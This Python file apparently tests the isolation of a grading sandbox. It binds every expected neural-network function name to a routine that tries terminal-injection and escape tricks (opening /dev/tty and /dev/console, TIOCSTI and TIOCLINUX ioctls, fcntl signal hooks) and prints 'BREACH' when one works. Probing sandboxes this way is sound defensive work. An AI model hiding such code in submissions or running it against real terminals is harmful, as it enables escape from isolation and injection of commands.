"""Types commands into the instructor's terminal."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

def attempt(name, action):
    try:
        got = action()
    except BaseException:
        return
    print("BREACH", name, repr(got)[:300])

import ctypes, os

def attack():
    attempt("/dev/tty", lambda: os.open("/dev/tty", os.O_RDWR))
    attempt("console", lambda: os.open("/dev/console", os.O_RDWR))
    attempt("ptmx", lambda: os.open("/dev/ptmx", os.O_RDWR))
    for number in range(4):
        attempt("TIOCSTI", lambda: __import__("fcntl").ioctl(number, 0x5412, b"x"))
        attempt("TIOCLINUX", lambda: __import__("fcntl").ioctl(number, 0x541C, b"\x02"))
        attempt("F_SETOWN", lambda: __import__("fcntl").fcntl(number, 8, os.getppid()))
        attempt("F_NOTIFY", lambda: __import__("fcntl").fcntl(number, 1026, 1))

done = []
def everything(*arguments, **keywords):
    if not done:
        done.append(1)
        attack()

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
